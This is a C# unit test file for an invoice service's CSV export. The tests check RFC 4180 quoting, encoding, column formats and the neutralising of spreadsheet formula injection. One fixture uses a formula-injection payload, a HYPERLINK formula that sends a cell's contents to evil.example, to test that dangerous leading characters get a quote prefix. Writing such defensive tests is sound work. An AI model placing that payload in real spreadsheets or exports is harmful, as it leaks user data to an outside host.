using System.Globalization;
using InvoiceScanner.Core.Export;
using InvoiceScanner.Core.Extraction;
using InvoiceScanner.Core.Invoices;
using InvoiceScanner.Core.Review;

namespace GetInvoices.Tests;

/// <summary>GET /invoices/export as CSV: RFC 4180, read back by an independent parser, with spreadsheet formulas disarmed.</summary>
public class ExportCsvTests : ExportTestBed
{
    private static readonly string[] InvoiceColumns =
    [
        "invoiceId", "status", "fileName", "createdAt", "vendorName", "vendorVatId", "invoiceNumber", "invoiceDate", "dueDate",
        "currency", "net", "tax", "total", "amountDue", "reviewReasons", "approvedBy", "approvedAt",
    ];

    [Fact]
    public async Task Every_column_round_trips_through_CsvHelper_oldest_upload_first_across_pages()
    {
        var approved = await SeedReadAsync(Alice, new InvoiceFields
        {
            VendorName = F("ACME Office GmbH"),
            VendorTaxId = F("DE123456789"),
            InvoiceNumber = F("RE-17"),
            InvoiceDate = F(new DateOnly(2026, 11, 20)),
            DueDate = F(new DateOnly(2026, 12, 4)),
            Currency = F("EUR"),
            Subtotal = F(100.00m),
            Tax = F(19.00m),
            Total = F(119.00m),
            AmountDue = F(119.00m),
        }, InvoiceStatus.Completed, fileName: "acme.pdf");
        var approvedAt = Clock.Now.AddMinutes(5);
        await ChangeAsync(Alice, approved, i => i with { Approval = new Approval("user-olga", approvedAt) });
        var inReview = await SeedReadAsync(Alice, Fields("Paper Ltd", "77", new DateOnly(2026, 11, 21), null, "GBP"), InvoiceStatus.NeedsReview,
            reasons: [new ReviewReason("TOTAL_MISMATCH", "sums differ"), new ReviewReason("LOW_CONFIDENCE", "unsure", "vendorName")]);
        await SeedReadAsync(Alice, Fields("Third", "3", new DateOnly(2026, 11, 22), 1m));

        var response = await Handler(pageSize: 1).HandleAsync(ExportRequest(), Context);

        Assert.Equal(200, response.StatusCode);
        Assert.Equal("text/csv; charset=utf-8; header=present", response.Headers!["content-type"]);
        Assert.Equal("attachment; filename=invoices-2026-11-23.csv", response.Headers["content-disposition"]);
        Assert.Equal("no-store", response.Headers["cache-control"]);
        var body = response.Body!;
        Assert.StartsWith("invoiceId,status,fileName,createdAt,", body, StringComparison.Ordinal); // no byte order mark
        Assert.EndsWith("\r\n", body, StringComparison.Ordinal);
        Assert.DoesNotContain('\n', body.Replace("\r\n", "", StringComparison.Ordinal));
        var (header, rows) = ParseCsv(body);
        Assert.Equal(InvoiceColumns, header);
        Assert.Equal(3, rows.Count);

        var first = rows[0];
        Assert.Equal(approved, first["invoiceId"]);
        Assert.Equal(("COMPLETED", "acme.pdf", "2026-11-23T18:01:00Z"), (first["status"], first["fileName"], first["createdAt"]));
        Assert.Equal(("ACME Office GmbH", "DE123456789", "RE-17"), (first["vendorName"], first["vendorVatId"], first["invoiceNumber"]));
        Assert.Equal(("2026-11-20", "2026-12-04", "EUR"), (first["invoiceDate"], first["dueDate"], first["currency"]));
        Assert.Equal(new[] { 100m, 19m, 119m, 119m }, new[] { "net", "tax", "total", "amountDue" }.Select(c => decimal.Parse(first[c], CultureInfo.InvariantCulture)));
        Assert.Equal("", first["reviewReasons"]);
        Assert.Equal("user-olga", first["approvedBy"]);
        Assert.Equal(approvedAt, DateTimeOffset.Parse(first["approvedAt"], CultureInfo.InvariantCulture));

        var second = rows[1];
        Assert.Equal((inReview, "NEEDS_REVIEW", "GBP"), (second["invoiceId"], second["status"], second["currency"]));
        Assert.Equal("TOTAL_MISMATCH;LOW_CONFIDENCE", second["reviewReasons"]);
        Assert.Equal(("", "", ""), (second["total"], second["approvedBy"], second["approvedAt"]));
        Assert.Equal("Third", rows[2]["vendorName"]);
    }

    [Fact]
    public async Task Commas_quotes_and_line_breaks_are_quoted_and_read_back_whole()
    {
        const string vendor = "Müller, Meier & Co. \"Süd\"";
        const string number = "A-1\r\nsecond line";
        var id = await SeedReadAsync(Alice, Fields(vendor, number, new DateOnly(2026, 11, 20), 10m), fileName: "scan, final.pdf",
            lines: [new LineItem(1) { Description = F("Paper\nA4, white"), Amount = F(10m) }]);

        var invoices = (await ExportAsync()).Body!;
        var lines = (await ExportAsync("lines=true")).Body!;

        Assert.Contains("\"Müller, Meier & Co. \"\"Süd\"\"\"", invoices, StringComparison.Ordinal);
        Assert.Contains("\"scan, final.pdf\"", invoices, StringComparison.Ordinal);
        var row = Assert.Single(ParseCsv(invoices).Rows);
        Assert.Equal((id, vendor, number, "scan, final.pdf"), (row["invoiceId"], row["vendorName"], row["invoiceNumber"], row["fileName"]));
        var line = Assert.Single(ParseCsv(lines).Rows);
        Assert.Equal(("Paper\nA4, white", vendor), (line["description"], line["vendorName"]));
    }

    [Fact]
    public async Task Text_that_would_run_as_a_formula_gets_a_quote_while_negative_amounts_stay_numbers()
    {
        const string hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
        await SeedReadAsync(Alice, new InvoiceFields
        {
            VendorName = F(hyperlink),
            InvoiceNumber = F("+49 30 1234"),
            VendorTaxId = F("@SUM(A1:A9)"),
            Currency = F("EUR"),
            Subtotal = F(-10.50m),
            Tax = F(-2.00m),
            Total = F(-12.50m),
        }, fileName: "-credit.pdf", lines: [new LineItem(1) { Description = F("\tTabbed"), Amount = F(-12.50m) }]);

        var body = (await ExportAsync()).Body!;
        var row = Assert.Single(ParseCsv(body).Rows);
        var line = Assert.Single(ParseCsv((await ExportAsync("lines=true")).Body!).Rows);

        Assert.Equal("'" + hyperlink, row["vendorName"]);
        Assert.Equal(("'+49 30 1234", "'@SUM(A1:A9)", "'-credit.pdf"), (row["invoiceNumber"], row["vendorVatId"], row["fileName"]));
        Assert.Contains(",-10.50,-2.00,-12.50,", body, StringComparison.Ordinal);
        Assert.Equal(-12.5m, decimal.Parse(row["total"], CultureInfo.InvariantCulture));
        Assert.Equal(("'\tTabbed", "-12.50"), (line["description"], line["amount"]));
    }

    [Fact]
    public async Task The_net_column_is_the_total_without_VAT_after_allowances_not_the_sum_of_the_lines()
    {
        await SeedReadAsync(Alice, new InvoiceFields
        {
            VendorName = F("Lieferant GmbH"),
            Subtotal = F(202.76m),
            Discount = F(8.93m),
            TaxBasis = F(193.83m),
            Tax = F(36.83m),
            Total = F(230.66m),
        });

        var row = Assert.Single(ParseCsv((await ExportAsync()).Body!).Rows);

        Assert.Equal(("193.83", "36.83", "230.66"), (row["net"], row["tax"], row["total"]));
    }

    [Theory]
    [InlineData("=1+2", "'=1+2")]
    [InlineData("+1", "'+1")]
    [InlineData("-1", "'-1")]
    [InlineData("@cmd", "'@cmd")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "'\rx")]
    [InlineData("a=b", "a=b")]
    [InlineData("ACME", "ACME")]
    [InlineData("", "")]
    public void Neutralising_prefixes_only_a_leading_formula_character(string text, string expected) =>
        Assert.Equal(expected, CsvExportWriter.Neutralise(text));

    [Theory]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("a\nb", "\"a\nb\"")]
    [InlineData("a\rb", "\"a\rb\"")]
    [InlineData("plain text", "plain text")]
    public void Quoting_follows_rfc_4180(string field, string expected) => Assert.Equal(expected, CsvExportWriter.Quote(field));

    [Fact]
    public void Numbers_and_dates_are_written_invariant_and_never_neutralised()
    {
        Assert.Equal("-12.50", CsvExportWriter.Cell(-12.50m));
        Assert.Equal("1234567.5", CsvExportWriter.Cell(1234567.5m));
        Assert.Equal("2026-11-20", CsvExportWriter.Cell(new DateOnly(2026, 11, 20)));
        Assert.Equal("2026-11-20T08:30:00Z", CsvExportWriter.Cell(new DateTime(2026, 11, 20, 8, 30, 0, DateTimeKind.Utc)));
        Assert.Equal("2026-11-20T08:30:00.25Z", CsvExportWriter.Cell(new DateTime(2026, 11, 20, 8, 30, 0, 250, DateTimeKind.Utc)));
        Assert.Equal("'-x;B", CsvExportWriter.Cell(new[] { "-x", "B" }));
    }

    [Fact]
    public void The_file_is_utf8_without_a_byte_order_mark()
    {
        var row = new InvoiceExportRow("01KAQ4N0Z6X8F0M6TV2C9R7B3D", "COMPLETED", "ü.pdf", new DateTime(2026, 11, 20, 0, 0, 0, DateTimeKind.Utc),
            null, null, null, null, null, null, null, null, null, null, [], null, null);
        using var buffer = new MemoryStream();

        CsvExportWriter.Write(buffer, [row], ExportJsonContext.Default.InvoiceExportRow);

        var bytes = buffer.ToArray();
        Assert.Equal("invoiceId,"u8.ToArray(), bytes[..10]);
        Assert.Equal("\r\n01KAQ4N0Z6X8F0M6TV2C9R7B3D,COMPLETED,\u00fc.pdf,2026-11-20T00:00:00Z,,,,,,,,,,,,,\r\n", System.Text.Encoding.UTF8.GetString(bytes[bytes.AsSpan().IndexOf("\r\n"u8)..]));
    }
}
